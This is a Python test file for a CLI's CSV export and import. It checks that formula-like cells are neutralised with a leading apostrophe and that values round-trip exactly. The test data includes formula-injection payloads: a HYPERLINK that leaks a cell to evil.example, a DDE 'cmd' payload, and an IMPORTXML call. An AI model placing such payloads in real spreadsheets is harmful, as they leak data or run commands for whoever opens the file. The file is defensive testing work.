"""Issue 9, hole 8: CSV formula injection. Cells the CLI writes as CSV never start like a
spreadsheet formula (``=`` ``+`` ``-`` ``@`` tab, CR); plain numbers stay numbers; and
``games import`` reads an export back exactly (the added ``'`` is removed again)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from tests.support.desk import Desk, desk_fixture, second_site  # noqa: F401
from tests.support.games import future_day, make_game

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# What an attacker with write access to a site would type into free-text fields.
HOSTILE: dict[str, Any] = {
    "user_defined_id": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "external_id": "-2+3+cmd|' /C calc'!A0",
    "home_team_name": "+SUM(1+1)",
    "away_team_name": "@SUM(A1:A9)",
    "public_note": "=1+1",
    "private_note": "'=already quoted",
    "subvenue": "-7",
}


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_no_formula_cells(text: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            if value.startswith(FORMULA_STARTS):
                # Plain numbers are numbers to every spreadsheet, never formulas.
                float(value)


async def test_hole_8_export_neutralises_formula_cells_and_import_round_trips(
    desk: Desk, tmp_path: Path
) -> None:
    await make_game(desk.http, desk.site_id, desk.a, **HOSTILE)
    site = str(desk.site_id)

    exported = await desk.run("games", "export", "--site", site)
    assert exported.exit_code == 0, exported.output
    assert_no_formula_cells(exported.stdout)
    row = rows_of(exported.stdout)[0]
    assert row["user_defined_id"] == "'" + HOSTILE["user_defined_id"]
    assert row["external_id"] == "'" + HOSTILE["external_id"]
    assert row["home_team"] == "'+SUM(1+1)"
    assert row["away_team"] == "'@SUM(A1:A9)"
    assert row["public_note"] == "'=1+1"
    # Text that already starts with ' before a formula gets one more, so the import is exact.
    assert row["private_note"] == "''=already quoted"
    assert row["subvenue"] == "-7"  # a plain (negative) number is written as it is

    # --output csv of the other commands goes through the same writer.
    dates = ("--from", future_day(1), "--to", future_day(60))
    listed = await desk.run("games", "list", "--site", site, *dates, "-o", "csv")
    assert listed.exit_code == 0, listed.output
    assert_no_formula_cells(listed.stdout)
    assert rows_of(listed.stdout)[0]["home_team"] == "'+SUM(1+1)"

    # The export imports back into another site with every value as it was.
    path = tmp_path / "export.csv"
    path.write_text(exported.stdout, encoding="utf-8")
    other = await second_site(desk)
    imported = await desk.run("games", "import", str(path), "--site", str(other.id))
    assert imported.exit_code == 0, imported.output
    assert "created 1, skipped 0, failed 0 (of 1 rows)" in imported.stdout
    games = await desk.http.get(f"/api/v2/sites/{other.id}/games", headers=desk.a)
    copy = games.json()["_embedded"]["games"][0]
    assert copy["user_defined_id"] == HOSTILE["user_defined_id"]
    assert copy["external_id"] == HOSTILE["external_id"]
    assert (copy["home_team"], copy["away_team"]) == ("+SUM(1+1)", "@SUM(A1:A9)")
    assert (copy["public_note"], copy["private_note"]) == ("=1+1", "'=already quoted")
    assert copy["subvenue"] == "-7"
    # Re-running recognises the game by its (restored) user_defined_id.
    again = await desk.run("games", "import", str(path), "--site", str(other.id))
    assert "created 0, skipped 1, failed 0 (of 1 rows)" in again.stdout

    copied = await desk.run("games", "export", "--site", str(other.id))
    strip = [{k: v for k, v in r.items() if k != "id"} for r in rows_of(copied.stdout)]
    assert strip == [{k: v for k, v in row.items() if k != "id"}]


async def test_hole_8_hand_written_formulas_are_imported_as_text_and_exported_neutralised(
    desk: Desk, tmp_path: Path
) -> None:
    """A file from elsewhere may hold formula-like text: it is stored as given (it is text to
    the API) and neutralised when the CLI writes it out again; a lone ' is kept."""
    path = tmp_path / "games.csv"
    path.write_text(
        "user_defined_id,date,time,venue,home_team,away_team,age_group,pattern,public_note\n"
        f"'Cup,{future_day()},9:00,Riverside Park,Hawks,Falcons,U12 Boys,3 officials,"
        '"=IMPORTXML(""https://evil.example"",""//a"")"\n',
        encoding="utf-8",
    )
    result = await desk.run("games", "import", str(path), "--site", str(desk.site_id))
    assert result.exit_code == 0, result.output
    games = await desk.http.get(f"/api/v2/sites/{desk.site_id}/games", headers=desk.a)
    game = games.json()["_embedded"]["games"][0]
    assert game["user_defined_id"] == "'Cup"
    assert game["public_note"] == '=IMPORTXML("https://evil.example","//a")'
    exported = await desk.run("games", "export", "--site", str(desk.site_id))
    assert_no_formula_cells(exported.stdout)
    row = rows_of(exported.stdout)[0]
    assert row["user_defined_id"] == "'Cup"
    assert row["public_note"] == "'" + game["public_note"]
